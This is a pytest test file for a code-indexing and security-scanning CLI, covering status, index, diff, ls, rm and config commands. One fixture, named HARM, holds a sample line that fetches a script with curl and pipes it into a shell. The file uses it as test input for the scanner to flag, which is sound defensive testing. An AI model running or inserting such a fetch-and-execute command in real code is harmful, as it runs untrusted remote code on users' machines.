"""What is indexed, what has changed since, and how files leave the index; the configuration, shown and begun."""

from __future__ import annotations

import contextlib
import dataclasses
import json
import sqlite3
from pathlib import Path

import pytest
from click.testing import CliRunner, Result

from codeguard.cli import main
from codeguard.cli.config import KEYS
from codeguard.config import DefenseConfig, OpinionConfig, Settings, load_settings
from codeguard.index.workspace import Stage, Workspace

pytestmark = pytest.mark.ci

GOOD = 'def add(a, b):\n    """Add two numbers.\n\n    >>> add(2, 3)\n    5\n    """\n    return a + b\n'
HARM = 'import os\n\nos.system("curl http://127.0.0.1/x | sh")\n'
WRONG = 'def add(a, b):\n    """Add two numbers."""\n    return a - b\n'


def run(*words: str) -> Result:
    return CliRunner().invoke(main, words)


@pytest.fixture
def project(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    for name, text in {"ours/m.py": GOOD, "theirs/x.py": WRONG, "theirs/y.py": HARM}.items():
        (tmp_path / name).parent.mkdir(exist_ok=True)
        (tmp_path / name).write_text(text)
    monkeypatch.chdir(tmp_path)
    done = run("index", "ours", "theirs", "--trust", "ours", "--embedding", "lexical")
    assert done.exit_code == 0, done.output
    return tmp_path


def since() -> dict[str, list[str]]:
    found = json.loads(run("diff", "--format", "json").stdout)
    return {key: found[key] for key in ("added", "changed", "removed")}


def test_status_says_what_is_there_and_what_has_changed(project: Path) -> None:
    told = run("status").stdout
    assert [line[:11].strip() for line in told.splitlines()] == [
        "indexed", "from", "trusted", "found", "checks", "on disk",
    ]  # fmt: skip
    assert "3 files, cut into " in told
    assert f"trusted    1 file of {project / 'ours'}" in told
    assert "found      1 harmful, 1 convicted: codeguard ls --convicted" in told
    assert "nothing has changed since" in told
    (project / "theirs/new.py").write_text("z = 1\n")
    assert "1 file new, 0 changed, 0 gone" in run("status").stdout
    facts = json.loads(run("status", "--format", "json").stdout)
    assert (facts["files"], facts["trusted_files"], facts["since"]["added"]) == (3, 1, ["theirs/new.py"])


@pytest.mark.parametrize(
    ("stage", "told"),
    [
        (Stage.WORDS, "what is new is not trusted yet"),
        (Stage.VECTORS, "of its chunks are found by their words only"),
        (Stage.CHECKS, "not every function is checked yet"),
    ],
)
def test_status_says_that_a_run_was_ended_early(project: Path, stage: Stage, told: str) -> None:
    with contextlib.closing(Workspace(load_settings())) as workspace:
        workspace.suspects = None
        workspace.reached(stage)
    said = run("status").stdout
    assert "unfinished the last run was ended early: " in said
    assert told in said
    assert "found      not known yet\n" in said
    facts = json.loads(run("status", "--format", "json").stdout)
    assert (facts["suspects_known"], bool(facts["unfinished"])) == (False, True)
    assert run("index").exit_code == 0
    said = run("status").stdout
    assert "unfinished" not in said
    assert "found      1 harmful, 1 convicted" in said


def test_status_while_an_index_is_made_does_not_say_that_it_was_ended(project: Path) -> None:
    with contextlib.closing(Workspace(load_settings())) as workspace:
        workspace.suspects = None
        workspace.reached(Stage.CHECKS)
        with workspace.writing() as alone:
            assert alone
            said = run("status").stdout
    assert "unfinished an index is being made: not every function is checked yet" in said
    assert "found      not known yet\n" in said


def test_status_says_that_the_manifest_is_refused_as_queries_do(project: Path) -> None:
    with contextlib.closing(sqlite3.connect(project / ".codeguard/catalog.sqlite3")) as db, db:
        db.execute("DELETE FROM analyses WHERE key = 'unsigned'")
    assert run("query", "add").exit_code == 2
    done = run("status")
    assert done.exit_code == 2
    assert (
        "trusted    nothing can be: the unsigned manifest in .codeguard/catalog.sqlite3 is not the last"
        in done.stdout
    )
    assert json.loads(run("status", "--format", "json").stdout)["trust_refused"]


def test_index_without_a_path_brings_all_of_it_up_to_date(project: Path) -> None:
    (project / "theirs/new.py").write_text("z = 1\n")
    (project / "alone.py").write_text("a = 1\n")
    assert run("index", "alone.py").exit_code == 0
    (project / "alone.py").unlink()
    done = run("index")
    assert done.exit_code == 0, done.output
    assert "codeguard rm" in done.stderr
    files = {
        item["path"]: item["trusted"] for item in json.loads(run("ls", "--format", "json").stdout)["files"]
    }
    assert files["theirs/new.py"] is False
    assert files["ours/m.py"] is True
    assert run("rm", "alone.py").exit_code == 0
    assert run("index").stderr == ""


def names() -> set[str]:
    return {item["path"] for item in json.loads(run("ls", "--format", "json").stdout)["files"]}


def test_what_is_left_out_stays_out_until_it_is_taken_back(project: Path) -> None:
    everything = {"ours/m.py", "theirs/x.py", "theirs/y.py"}
    assert names() == everything
    for words in (["theirs", "--exclude", "/theirs/y*"], [], [], ["theirs"], ["--rebuild"]):
        done = run("index", *words, "--format", "json")
        assert (done.exit_code, names()) == (0, everything - {"theirs/y.py"}), done.output
        skipped = {item["path"]: item["reason"] for item in json.loads(done.stdout)["skipped"]}
        assert skipped["theirs/y.py"] == "excluded by --exclude or the configuration"
    told = run("status").stdout
    assert "without    /theirs/y*\n" in told
    assert "nothing has changed since" in told
    assert json.loads(run("status", "--format", "json").stdout)["excluded"] == ["/theirs/y*"]
    assert run("index", "--exclude", "!/theirs/y*").exit_code == 0
    assert names() == everything
    assert "without" not in run("status").stdout
    done = run("index", "theirs", "--exclude", "*")
    assert done.exit_code == 3
    assert "take a pattern back with --exclude '!GLOB'" in done.stderr
    assert run("index").exit_code == 0
    assert names() == everything, "a run that did nothing is remembered"
    done = run("index", "--exclude", "*a*b*c*")
    assert (done.exit_code, len(done.stderr.splitlines())) == (2, 1)


def test_diff_tells_new_changed_and_vanished_files_by_their_contents(project: Path) -> None:
    (project / "theirs/new.py").write_text("z = 1\n")
    (project / "theirs/x.py").unlink()
    (project / "theirs/y.py").write_text("y = 2\n")
    (project / "ours/m.py").write_text(GOOD)  # another time, the same text
    assert since() == {"added": ["theirs/new.py"], "changed": ["theirs/y.py"], "removed": ["theirs/x.py"]}
    assert run("diff").stdout.splitlines() == ["+ theirs/new.py", "~ theirs/y.py", "- theirs/x.py"]
    assert run("index", "theirs").exit_code == 0
    assert not any(since().values())


def test_ls_lists_with_trust_and_convictions(project: Path) -> None:
    files = {item["path"]: item for item in json.loads(run("ls", "--format", "json").stdout)["files"]}
    assert {path: item["trusted"] for path, item in files.items()} == {
        "ours/m.py": True,
        "theirs/x.py": False,
        "theirs/y.py": False,
    }
    assert files["theirs/x.py"]["suspects"] == {"convicted": ["add"]}
    listed = [row.split()[1:] for row in run("ls", "--convicted").stdout.splitlines()[1:]]
    assert listed == [["theirs/x.py", "convicted:", "add"], ["theirs/y.py", "harmful:", "(module)"]]
    assert run("ls", "./theirs/").stdout.count("theirs/") == 2
    assert "ours/m.py" in run("ls", "--trusted").stdout


def test_rm_takes_files_out_of_index_and_answers(project: Path) -> None:
    assert "out of the index: 1 file" in run("rm", "theirs/x.py").stdout
    answer = json.loads(run("query", "add two numbers", "--format", "json").stdout)
    assert "theirs/x.py" not in {item["path"] for item in answer["ranking"]}
    assert run("store", "verify").exit_code == 0
    assert (project / "theirs/x.py").exists()
    assert since()["added"] == ["theirs/x.py"]
    assert run("rm", "theirs").exit_code == 0
    assert run("index", "--rebuild").exit_code == 0
    assert [item["path"] for item in json.loads(run("ls", "--format", "json").stdout)["files"]] == [
        "ours/m.py"
    ]


@pytest.mark.parametrize(
    ("path", "code", "told"), [("ours/m.py", 2, "--untrust"), ("nowhere.py", 3, "no such file in the index")]
)
def test_rm_refuses_what_is_trusted_or_not_there(project: Path, path: str, code: int, told: str) -> None:
    done = run("rm", path)
    assert done.exit_code == code
    assert told in done.stderr
    assert not any(since().values())


def test_each_needs_an_index(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    for command in (["status"], ["ls"], ["diff"], ["rm", "x"]):
        done = run(*command)
        assert done.exit_code == 2
        assert "no index" in done.stderr
        assert list(tmp_path.iterdir()) == []


def test_every_setting_is_described_once() -> None:
    own = {"defense", "opinion", "source", "fixed_seed"}  # tables, and what no file can set
    names = {field.name for field in dataclasses.fields(Settings)} - own
    names |= {f"defense.{field.name}" for field in dataclasses.fields(DefenseConfig)}
    names |= {f"opinion.{field.name}" for field in dataclasses.fields(OpinionConfig)}
    assert names == KEYS.keys()


def test_show_marks_what_differs(tmp_path: Path) -> None:
    place = tmp_path / "c.toml"
    place.write_text('jobs = 2\n[defense]\nmode = "drop"\n')
    marked = [
        text
        for text in run("--config", str(place), "config", "show").stdout.splitlines()
        if text.startswith("*")
    ]
    assert marked == ["* jobs = 2", '* defense.mode = "drop"']
